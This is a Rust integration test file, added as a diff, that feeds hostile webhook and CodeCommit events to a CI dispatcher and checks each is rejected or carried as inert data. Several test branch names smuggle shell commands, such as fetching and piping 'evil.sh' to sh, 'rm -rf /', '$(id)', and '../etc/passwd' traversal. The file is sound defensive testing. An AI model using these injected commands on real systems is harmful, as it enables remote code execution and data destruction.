@@ -1,0 +1,780 @@
+//! Hostile inputs, table-driven, against every function with the sample configuration
+//! (`events/switchyard.env`). Each input is either rejected with a reason that names what is wrong,
+//! or — where git itself allows it (shell metacharacters, unicode in branch names) — carried as
+//! inert data: only in the `BRANCH_NAME` environment variable, never in a derived name. Run
+//! through the real handler against moto, none of the rejected inputs sends a single request.
+//!
+//! Duplicated JSON keys: `serde_json` keeps the *last* occurrence (`{"ref":"a","ref":"b"}` reads
+//! as `b`). That is safe here because (1) a webhook body is authenticated byte for byte (HMAC)
+//! before it is parsed, so only the secret's holder can send one, and (2) every reader of the
+//! body — routing and deciding — uses the same parser, so no two components can disagree about
+//! which `ref` an event is about. The test below pins both facts.
+//!
+//! Replayed webhook deliveries cannot be detected without state (GitHub's signature has no
+//! timestamp); they yield the very same plan with the same idempotency token, tested below.
+
+mod support;
+
+use base64::Engine;
+use serde_json::{json, Value};
+use support::{create_codebuild_project, moto, repo_root};
+use switchyard_adapters::AwsExecutor;
+use switchyard_core::entry;
+use switchyard_core::plan::{Action, Decision, FunctionName, Outcome, RejectKind};
+use switchyard_core::webhook;
+use switchyard_integration_tests::{decide_with_every_function, secret, vars};
+
+const SHA: &str = "4c1e7d0b9a8f7e6d5c4b3a29182736455463728a";
+
+/// What a hostile input must come to.
+#[derive(Debug, Clone, Copy)]
+enum Expect {
+    /// Rejected as this kind, the reason containing this text (the field or rule at fault).
+    Rejected(RejectKind, &'static str),
+    /// Valid for git and for the function: it acts, and the ref travels only as data.
+    ActsWithRefAsData,
+}
+
+struct Case {
+    name: &'static str,
+    function: FunctionName,
+    event: Value,
+    expect: Expect,
+}
+
+// ---------------------------------------------------------------------------------------------
+// Event builders
+
+fn sample(path: &str) -> Value {
+    serde_json::from_slice(&std::fs::read(repo_root().join("events").join(path)).unwrap()).unwrap()
+}
+
+/// A CodeCommit "branch created" event for `branch` (no `referenceFullName`, so the name alone
+/// is checked) in `repository`.
+fn codecommit_in(repository: &str, branch: &str) -> Value {
+    let mut e = sample("branch-pipelines/codecommit-branch-created.json");
+    let detail = e["detail"].as_object_mut().unwrap();
+    detail.remove("referenceFullName");
+    detail.insert("referenceName".into(), json!(branch));
+    detail.insert("repositoryName".into(), json!(repository));
+    // Each event its own identity, as EventBridge gives it.
+    e["id"] = json!(identity(&[repository, branch]));
+    e
+}
+
+/// A distinct, valid event id or delivery id per input.
+fn identity(parts: &[&str]) -> String {
+    switchyard_core::idempotency::token(FunctionName::BranchPipelines, &parts.join("\0"), 0)[..36]
+        .to_owned()
+}
+
+fn codecommit(branch: &str) -> Value {
+    codecommit_in("payments-service", branch)
+}
+
+/// A function URL request carrying `body`, signed with the sample secret (or not).
+fn webhook_request(event: &str, body: &[u8], base64_body: bool, signed: bool) -> Value {
+    let mut r = sample("branch-pipelines/github-push-branch-created.json");
+    r["headers"]["x-github-event"] = json!(event);
+    r["headers"]["x-hub-signature-256"] = if signed {
+        json!(webhook::sign(secret(), body))
+    } else {
+        json!(format!("sha256={}", "0".repeat(64)))
+    };
+    r["isBase64Encoded"] = json!(base64_body);
+    r["body"] = if base64_body {
+        json!(base64::engine::general_purpose::STANDARD.encode(body))
+    } else {
+        json!(String::from_utf8(body.to_vec()).unwrap())
+    };
+    r
+}
+
+fn signed(event: &str, body: &[u8]) -> Value {
+    webhook_request(event, body, false, true)
+}
+
+fn signed_bytes(event: &str, body: &[u8]) -> Value {
+    webhook_request(event, body, true, true)
+}
+
+/// A signed GitHub `push` that creates `full_ref` in acme/payments-service.
+fn github_push(full_ref: &str) -> Value {
+    let payload = json!({
+        "ref": full_ref, "before": "0".repeat(40), "after": SHA, "created": true, "deleted": false,
+        "repository": {"full_name": "acme/payments-service", "default_branch": "main"},
+    });
+    let mut r = signed("push", payload.to_string().as_bytes());
+    r["headers"]["x-github-delivery"] = json!(identity(&[full_ref]));
+    r
+}
+
+fn nested(depth: usize) -> String {
+    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
+}
+
+// ---------------------------------------------------------------------------------------------
+// The table
+
+fn cases() -> Vec<Case> {
+    use Expect::*;
+    use FunctionName::BranchPipelines as Branch;
+    use RejectKind::{Invalid, Unauthenticated};
+    let huge_branch = format!("feature/{}", "a".repeat(100 * 1024));
+    let six_mb = vec![b' '; 6 * 1024 * 1024];
+    let case = |name, function, event, expect| Case {
+        name,
+        function,
+        event,
+        expect,
+    };
+    vec![
+        // Shell metacharacters: git allows them, so they are data, never code.
+        case(
+            "shell metacharacters in a CodeCommit branch",
+            Branch,
+            codecommit("feature/$(curl${IFS}evil.sh|sh);`id`&&x>y<z'\""),
+            ActsWithRefAsData,
+        ),
+        case(
+            "shell metacharacters in a GitHub branch",
+            Branch,
+            github_push("refs/heads/feature/$(rm${IFS}-rf${IFS}/)|;&"),
+            ActsWithRefAsData,
+        ),
+        case(
+            "unicode right-to-left override in a branch",
+            Branch,
+            codecommit("feature/\u{202e}gpj.exe"),
+            ActsWithRefAsData,
+        ),
+        case(
+            "percent-encoded ../ in a branch (never URL-decoded)",
+            Branch,
+            codecommit("feature/%2e%2e%2f%2e%2e%2fetc"),
+            ActsWithRefAsData,
+        ),
+        // Newlines and NUL: control characters, which git forbids.
+        case(
+            "newline in a CodeCommit branch",
+            Branch,
+            codecommit("feature/x\nrm -rf /"),
+            Rejected(
+                Invalid,
+                "detail.referenceName: ref contains a control character",
+            ),
+        ),
+        case(
+            "CRLF in a GitHub branch",
+            Branch,
+            github_push("refs/heads/feature/x\r\nX-Injected: 1"),
+            Rejected(Invalid, "ref: ref contains a control character"),
+        ),
+        case(
+            "NUL byte in a branch",
+            Branch,
+            codecommit("feature/x\0y"),
+            Rejected(Invalid, "control character"),
+        ),
+        case(
+            "NUL byte in a GitHub ref",
+            Branch,
+            github_push("refs/heads/feature/\0"),
+            Rejected(Invalid, "control character"),
+        ),
+        // Size.
+        case(
+            "100 KB CodeCommit branch name",
+            Branch,
+            codecommit(&huge_branch),
+            Rejected(
+                Invalid,
+                "detail.referenceName: ref is 102408 bytes long; the limit is 1024",
+            ),
+        ),
+        case(
+            "100 KB GitHub branch name",
+            Branch,
+            github_push(&format!("refs/heads/{huge_branch}")),
+            Rejected(Invalid, "ref is 102408 bytes long"),
+        ),
+        case(
+            "6 MB webhook body, even if signed",
+            Branch,
+            signed("push", &six_mb),
+            Rejected(Invalid, "body: is larger than 5242880 bytes"),
+        ),
+        case(
+            "6 MB webhook body, base64",
+            Branch,
+            signed_bytes("push", &six_mb),
+            Rejected(Invalid, "body: is larger than 5242880 bytes"),
+        ),
+        // Encoding and structure of a signed body.
+        case(
+            "invalid UTF-8 in a signed body",
+            Branch,
+            signed_bytes("push", b"{\"ref\":\"refs/heads/feature/\xff\xfe\"}"),
+            Rejected(Invalid, "body: invalid JSON"),
+        ),
+        case(
+            "raw NUL byte inside a JSON string",
+            Branch,
+            signed("push", b"{\"ref\":\"refs/heads/a\0b\"}"),
+            Rejected(Invalid, "body: invalid JSON"),
+        ),
+        case(
+            "JSON nested 100 000 deep",
+            Branch,
+            signed("push", nested(100_000).as_bytes()),
+            Rejected(Invalid, "recursion limit exceeded"),
+        ),
+        case(
+            "JSON body that is not an object",
+            Branch,
+            signed("push", b"[\"refs/heads/feature/x\"]"),
+            Rejected(Invalid, "body: expected a JSON object"),
+        ),
+        case(
+            "form body without a payload field",
+            Branch,
+            {
+                let mut r = signed("push", b"ref=refs/heads/feature/x");
+                r["headers"]["content-type"] = json!("application/x-www-form-urlencoded");
+                r
+            },
+            Rejected(Invalid, "form body has no payload field"),
+        ),
+        case(
+            "invalid base64 body",
+            Branch,
+            {
+                let mut r = signed("push", b"{}");
+                r["isBase64Encoded"] = json!(true);
+                r["body"] = json!("not base64!");
+                r
+            },
+            Rejected(Invalid, "body: invalid base64"),
+        ),
+        // Authentication comes before any parsing.
+        case(
+            "unsigned hostile body",
+            Branch,
+            webhook_request("push", nested(100_000).as_bytes(), false, false),
+            Rejected(Unauthenticated, "does not match"),
+        ),
+        case(
+            "signature header of the wrong shape",
+            Branch,
+            {
+                let mut r = github_push("refs/heads/feature/x");
+                r["headers"]["x-hub-signature-256"] = json!("sha256=$(id)");
+                r
+            },
+            Rejected(Unauthenticated, "X-Hub-Signature-256 must be"),
+        ),
+        case(
+            "oversized event header",
+            Branch,
+            signed(&"push".repeat(100), b"{}"),
+            Rejected(
+                Invalid,
+                "headers.x-github-event: must be 1 to 100 ASCII characters",
+            ),
+        ),
+        case(
+            "non-ASCII delivery id",
+            Branch,
+            {
+                let mut r = github_push("refs/heads/feature/x");
+                r["headers"]["x-github-delivery"] = json!("d\u{e9}livery");
+                r
+            },
+            Rejected(Invalid, "headers.x-github-delivery"),
+        ),
+        // Paths.
+        case(
+            "../ in a branch",
+            Branch,
+            codecommit("feature/../../etc/passwd"),
+            Rejected(Invalid, "detail.referenceName: ref contains \"..\""),
+        ),
+        case(
+            "../ in a full GitHub ref",
+            Branch,
+            github_push("refs/heads/../tags/v1"),
+            Rejected(Invalid, "\"..\""),
+        ),
+        case(
+            "../ in a repository name",
+            Branch,
+            codecommit_in("../other-team", "feature/x"),
+            Rejected(Invalid, "detail.repositoryName: invalid repository name"),
+        ),
+        case(
+            "absolute path as a branch",
+            Branch,
+            codecommit("/etc/passwd"),
+            Rejected(Invalid, "may not start or end with '/'"),
+        ),
+        case(
+            "ref that is an option",
+            Branch,
+            codecommit("-rf"),
+            Rejected(Invalid, "may not start with '-'"),
+        ),
+        // Identity and commits.
+        case(
+            "shell in a commit id",
+            Branch,
+            {
+                let mut e = codecommit("feature/x");
+                e["detail"]["commitId"] = json!("$(id)");
+                e
+            },
+            Rejected(
+                Invalid,
+                "detail.commitId: expected a 40 or 64 character hex commit id",
+            ),
+        ),
+        case(
+            "200-character event id",
+            Branch,
+            {
+                let mut e = codecommit("feature/x");
+                e["id"] = json!("e".repeat(200));
+                e
+            },
+            Rejected(Invalid, "id: must be 1 to 128 characters"),
+        ),
+        case(
+            "referenceFullName that disagrees with referenceName",
+            Branch,
+            {
+                let mut e = codecommit("feature/x");
+                e["detail"]["referenceFullName"] = json!("refs/heads/main");
+                e
+            },
+            Rejected(
+                Invalid,
+                "detail.referenceFullName: does not match detail.referenceName",
+            ),
+        ),
+    ]
+}
+
+/// The ref a case is about, when it acts.
+fn branch_env(d: &Decision) -> Vec<(String, String)> {
+    match d.actions.as_slice() {
+        [Action::StartBuild(b)] => b
+            .environment_variables_override
+            .iter()
+            .map(|v| (v.name.clone(), v.value.clone()))
+            .collect(),
+        other => panic!("expected one StartBuild, got {other:?}"),
+    }
+}
+
+fn check(case: &Case) {
+    for (function, d) in decide_with_every_function(&case.event) {
+        if function != case.function {
+            assert!(
+                d.actions.is_empty(),
+                "{}: {function} acted: {d:?}",
+                case.name
+            );
+            continue;
+        }
+        // Reasons quote untrusted input; they must stay one readable line.
+        assert!(
+            d.reason.len() < 600,
+            "{}: reason of {} bytes",
+            case.name,
+            d.reason.len()
+        );
+        assert!(!d.reason.contains('\n'), "{}: {:?}", case.name, d.reason);
+        match case.expect {
+            Expect::Rejected(kind, why) => {
+                assert_eq!(d.outcome, Outcome::Rejected(kind), "{}: {d:?}", case.name);
+                assert!(
+                    d.reason.contains(why),
+                    "{}: {:?} should contain {why:?}",
+                    case.name,
+                    d.reason
+                );
+                assert!(d.actions.is_empty());
+            }
+            Expect::ActsWithRefAsData => {
+                assert_eq!(d.outcome, Outcome::Acted, "{}: {d:?}", case.name);
+                let env = branch_env(&d);
+                let branch = &env.iter().find(|(k, _)| k == "BRANCH_NAME").unwrap().1;
+                switchyard_core::refs::RefName::parse(branch).unwrap();
+                // Every other value (derived names, repository, commit) is free of anything a
+                // shell, a URL or a terminal would interpret.
+                for (name, value) in env.iter().filter(|(k, _)| k != "BRANCH_NAME") {
+                    assert!(
+                        value
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || "-_./@".contains(c)),
+                        "{}: {name}={value:?}",
+                        case.name
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn hostile_inputs_are_rejected_with_a_reason_or_carried_as_data() {
+    let cases = cases();
+    assert!(cases.len() >= 25);
+    for case in &cases {
+        check(case);
+    }
+}
+
+/// The Lambda runtime deserializes each invocation with `serde_json` (lambda_runtime's
+/// `deserializer.rs`) before any handler runs; bytes that are not JSON fail the invocation there
+/// with "failed to deserialize the incoming data", so no function ever sees them.
+#[test]
+fn lambda_payloads_that_are_not_json_never_reach_a_function() {
+    let cases: [(&str, Vec<u8>, &str); 5] = [
+        (
+            "invalid UTF-8",
+            b"{\"id\":\"\xff\"}".to_vec(),
+            "invalid unicode",
+        ),
+        (
+            "raw NUL in a string",
+            b"{\"id\":\"a\0b\"}".to_vec(),
+            "control character",
+        ),
+        (
+            "nested 100 000 deep",
+            nested(100_000).into_bytes(),
+            "recursion limit exceeded",
+        ),
+        (
+            "unpaired surrogate escape",
+            br#"{"id":"\ud800"}"#.to_vec(),
+            "hex escape",
+        ),
+        ("truncated", br#"{"id":"e-1","detail":{"#.to_vec(), "EOF"),
+    ];
+    for (name, bytes, why) in cases {
+        let err = serde_json::from_slice::<Value>(&bytes)
+            .expect_err(name)
+            .to_string();
+        assert!(err.contains(why), "{name}: {err}");
+    }
+    // Nesting just under the limit parses, and every function still answers without acting.
+    let deep: Value = serde_json::from_str(&format!("{{\"detail\":{}}}", nested(120))).unwrap();
+    for (function, d) in decide_with_every_function(&deep) {
+        assert!(d.actions.is_empty(), "{function}: {d:?}");
+    }
+}
+
+/// See the module documentation: the last duplicate wins, in routing and in deciding alike.
+#[test]
+fn duplicated_json_keys_last_one_wins_everywhere() {
+    let v: Value = serde_json::from_str(r#"{"ref":"first","ref":"second"}"#).unwrap();
+    assert_eq!(v["ref"], "second");
+
+    // A signed push naming a tag first and a branch second is routed to, and decided as, the
+    // branch; the tag is never looked at.
+    let body = format!(
+        r#"{{"ref":"refs/tags/prod_eu-west-1/payments/1.0.0","ref":"refs/heads/feature/second","created":true,"deleted":false,"after":"{SHA}","repository":{{"full_name":"acme/payments-service","full_name":"acme/payments-service"}}}}"#
+    );
+    let event = signed("push", body.as_bytes());
+    assert_eq!(
+        switchyard_core::route::function_for(&event),
+        Some(FunctionName::BranchPipelines)
+    );
+    let decisions = decide_with_every_function(&event);
+    let (_, d) = decisions
+        .iter()
+        .find(|(f, _)| *f == FunctionName::BranchPipelines)
+        .unwrap();
+    assert_eq!(d.outcome, Outcome::Acted, "{d:?}");
+    let env = branch_env(d);
+    assert!(
+        env.contains(&("BRANCH_NAME".into(), "feature/second".into())),
+        "{env:?}"
+    );
+
+    // The other way round, a duplicate cannot smuggle an invalid ref past validation.
+    let body = format!(
+        r#"{{"ref":"refs/heads/feature/ok","ref":"refs/heads/feature/x\nid","created":true,"after":"{SHA}","repository":{{"full_name":"acme/payments-service"}}}}"#
+    );
+    for (_, d) in decide_with_every_function(&signed("push", body.as_bytes())) {
+        assert!(d.is_rejected() || d.actions.is_empty(), "{d:?}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Wrong types in every field
+
+/// Every leaf of a JSON document, as (path, value).
+fn leaves(v: &Value, path: &mut Vec<String>, out: &mut Vec<(Vec<String>, Value)>) {
+    match v {
+        Value::Object(m) if !m.is_empty() => {
+            for (k, child) in m {
+                path.push(k.clone());
+                leaves(child, path, out);
+                path.pop();
+            }
+        }
+        Value::Array(a) if !a.is_empty() => {
+            for (i, child) in a.iter().enumerate() {
+                path.push(i.to_string());
+                leaves(child, path, out);
+                path.pop();
+            }
+        }
+        leaf => out.push((path.clone(), leaf.clone())),
+    }
+}
+
+fn set(v: &mut Value, path: &[String], new: Value) {
+    let mut cur = v;
+    for key in path {
+        cur = match cur {
+            Value::Array(a) => &mut a[key.parse::<usize>().unwrap()],
+            other => &mut other[key.as_str()],
+        };
+    }
+    *cur = new;
+}
+
+fn same_type(a: &Value, b: &Value) -> bool {
+    std::mem::discriminant(a) == std::mem::discriminant(b)
+}
+
+/// One value of each JSON type; each field gets every one that is not its own type.
+fn wrong_values() -> [Value; 6] {
+    [
+        json!(7),
+        json!(true),
+        json!("x"),
+        json!([]),
+        json!({}),
+        Value::Null,
+    ]
+}
+
+/// Fields whose value decides which function an event is for: changing them makes the event
+/// someone else's (unsupported), which is a correct answer too.
+const ROUTING_FIELDS: [&str; 3] = ["source", "detail-type", "requestContext"];
+
+/// Checks one mutation: the decision names the field, or is unchanged (the field is not read),
+/// or — for `null` — is the decision on the event without that field (null means absent), or the
+/// event is no longer this function's.
+fn check_mutation(function: FunctionName, original: &Decision, path: &[String], event: &Value) {
+    let field = path.last().unwrap();
+    let decide = |e: &Value| {
+        decide_with_every_function(e)
+            .into_iter()
+            .find(|(f, _)| *f == function)
+            .map(|(_, d)| d)
+    };
+    if let Some(d) = decide(event) {
+        let names_field = d.is_rejected() && d.reason.contains(field.as_str());
+        let as_if_absent = value_at(event, path) == "null" && {
+            let mut without = event.clone();
+            remove(&mut without, path);
+            decide(&without).as_ref() == Some(&d)
+        };
+        let unchanged = &d == original || as_if_absent;
+        let rerouted = ROUTING_FIELDS.contains(&path[0].as_str())
+            && d.outcome == Outcome::Rejected(RejectKind::Unsupported);
+        assert!(
+            names_field || unchanged || rerouted,
+            "{function}: {} changed to {} gave {d:?} (was {original:?})",
+            path.join("."),
+            value_at(event, path)
+        );
+        assert!(
+            d.actions.is_empty() || unchanged,
+            "{}: {d:?}",
+            path.join(".")
+        );
+    }
+}
+
+fn remove(v: &mut Value, path: &[String]) {
+    let (last, parents) = path.split_last().unwrap();
+    let mut cur = v;
+    for key in parents {
+        cur = match cur {
+            Value::Array(a) => &mut a[key.parse::<usize>().unwrap()],
+            other => &mut other[key.as_str()],
+        };
+    }
+    if let Value::Object(m) = cur {
+        m.remove(last);
+    }
+}
+
+/// The value at `path`, for messages.
+fn value_at(v: &Value, path: &[String]) -> String {
+    let mut cur = v;
+    for key in path {
+        cur = match cur {
+            Value::Array(a) => &a[key.parse::<usize>().unwrap()],
+            other => &other[key.as_str()],
+        };
+    }
+    cur.to_string()
+}
+
+#[test]
+fn wrong_types_in_every_field_of_every_sample() {
+    let mut samples = Vec::new();
+    collect_samples(&repo_root().join("events"), &mut samples);
+    let mut mutations = 0;
+    for path in samples {
+        let event: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        let Some(function) = switchyard_core::route::function_for(&event) else {
+            continue;
+        };
+        let decide = |e: &Value| {
+            decide_with_every_function(e)
+                .into_iter()
+                .find(|(f, _)| *f == function)
+                .map(|(_, d)| d)
+        };
+        let Some(original) = decide(&event) else {
+            continue; // that function has not landed in the shared dispatcher yet
+        };
+        // The envelope: every field of the Lambda event.
+        let mut all = Vec::new();
+        leaves(&event, &mut Vec::new(), &mut all);
+        for (field, value) in &all {
+            for wrong in wrong_values().into_iter().filter(|w| !same_type(w, value)) {
+                let mut e = event.clone();
+                set(&mut e, field, wrong);
+                check_mutation(function, &original, field, &e);
+                mutations += 1;
+            }
+        }
+        // A webhook's payload: every field of the body, re-signed so it passes the HMAC.
+        if webhook::is_http_request(&event)
+            && original.outcome != Outcome::Rejected(RejectKind::Unauthenticated)
+        {
+            let request = webhook::parse_http_request(&event).unwrap();
+            let payload: Value = serde_json::from_slice(&request.body).unwrap();
+            let mut all = Vec::new();
+            leaves(&payload, &mut Vec::new(), &mut all);
+            for (field, value) in &all {
+                for wrong in wrong_values().into_iter().filter(|w| !same_type(w, value)) {
+                    let mut p = payload.clone();
+                    set(&mut p, field, wrong);
+                    let mut e = signed(
+                        event["headers"]["x-github-event"].as_str().unwrap(),
+                        p.to_string().as_bytes(),
+                    );
+                    e["headers"]["x-github-delivery"] =
+                        event["headers"]["x-github-delivery"].clone();
+                    check_mutation(function, &original, field, &e);
+                    mutations += 1;
+                }
+            }
+        }
+    }
+    assert!(mutations > 1000, "only {mutations} mutations");
+}
+
+fn collect_samples(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
+    let mut entries: Vec<_> = std::fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    entries.sort();
+    for p in entries {
+        if p.is_dir() {
+            collect_samples(&p, out);
+        } else if p.extension().is_some_and(|e| e == "json") {
+            out.push(p);
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Replays and the real handler
+
+/// Deciding is pure: the same event, delivered again, gives the same plan with the same
+/// idempotency tokens, so AWS can recognise the repeat.
+#[test]
+fn replayed_deliveries_give_identical_plans() {
+    let mut samples = Vec::new();
+    collect_samples(&repo_root().join("events"), &mut samples);
+    let mut acted = 0;
+    for path in samples {
+        let event: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        let first = decide_with_every_function(&event);
+        let again = decide_with_every_function(&event.clone());
+        assert_eq!(first, again, "{}", path.display());
+        acted += first
+            .iter()
+            .filter(|(_, d)| d.outcome == Outcome::Acted)
+            .count();
+    }
+    assert!(
+        acted > 0,
+        "no sample acted; the replay check proved nothing"
+    );
+}
+
+/// Every case through the real handler and SDK client against moto: rejected cases send nothing
+/// (moto's recorder sees no request), acting cases send exactly one request each, and a replayed
+/// delivery carries the same idempotency token.
+#[tokio::test]
+async fn through_the_handler_rejected_inputs_send_no_request() {
+    let sdk = moto().sdk().await;
+    for var in ["BRANCH_DEPLOYER_PROJECT", "BRANCH_DESTROYER_PROJECT"] {
+        create_codebuild_project(&sdk, &vars()[var]).await;
+    }
+    let executor = AwsExecutor::new(sdk);
+    let sent = || moto().recorded("StartBuild");
+    let handle = |event: Value| {
+        let executor = &executor;
+        async move {
+            for (function, decision) in decide_with_every_function(&event) {
+                let _ = entry::run(function, &event, decision, executor).await;
+            }
+        }
+    };
+
+    for case in cases() {
+        let before = sent().len();
+        handle(case.event.clone()).await;
+        let after = sent();
+        match case.expect {
+            Expect::Rejected(..) => {
+                assert_eq!(after.len(), before, "{}: a request was sent", case.name)
+            }
+            Expect::ActsWithRefAsData => {
+                assert_eq!(after.len(), before + 1, "{}", case.name);
+                // The raw ref reached AWS only as the BRANCH_NAME variable's value.
+                let request = &after[before];
+                assert!(request.get("buildspecOverride").is_none(), "{}", case.name);
+                let vars = request["environmentVariablesOverride"].as_array().unwrap();
+                let branch = vars.iter().find(|v| v["name"] == "BRANCH_NAME").unwrap();
+                assert_eq!(branch["type"], "PLAINTEXT");
+            }
+        }
+    }
+
+    // Replay: the same delivery twice sends the same token twice (CodeBuild de-duplicates it).
+    let replayed = github_push("refs/heads/feature/replayed");
+    let before = sent().len();
+    handle(replayed.clone()).await;
+    handle(replayed).await;
+    let after = sent();
+    assert_eq!(after.len(), before + 2);
+    assert_eq!(
+        after[before]["idempotencyToken"],
+        after[before + 1]["idempotencyToken"]
+    );
+}
